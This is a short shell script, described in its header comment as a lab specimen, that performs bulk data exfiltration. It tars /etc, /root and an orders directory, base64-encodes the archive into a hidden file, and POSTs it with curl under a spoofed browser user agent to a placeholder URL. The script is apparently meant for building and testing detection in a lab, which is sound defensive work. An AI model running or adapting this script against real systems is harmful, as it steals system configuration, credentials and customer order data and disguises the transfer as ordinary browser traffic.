#!/bin/sh
# kcsi lab specimen: bulk exfiltration over HTTP. Packs /etc, /root and the order exports,
# base64-encodes the archive into a hidden file and POSTs it with curl and a browser user
# agent to @@URL@@ (127.x). The receiver reads the headers only, so the body waits in
# curl's send queue.
B=@@BLOB@@
mkdir -p "$(dirname "$B")"
tar czf - /etc /root /srv/orders 2>/dev/null | base64 -w0 > "$B"
exec curl -s -m 900 -A '@@UA@@' -H 'Content-Type: text/plain' -H 'X-Upload-Id: @@UPLOAD_ID@@' \
    --data-binary @"$B" '@@URL@@'
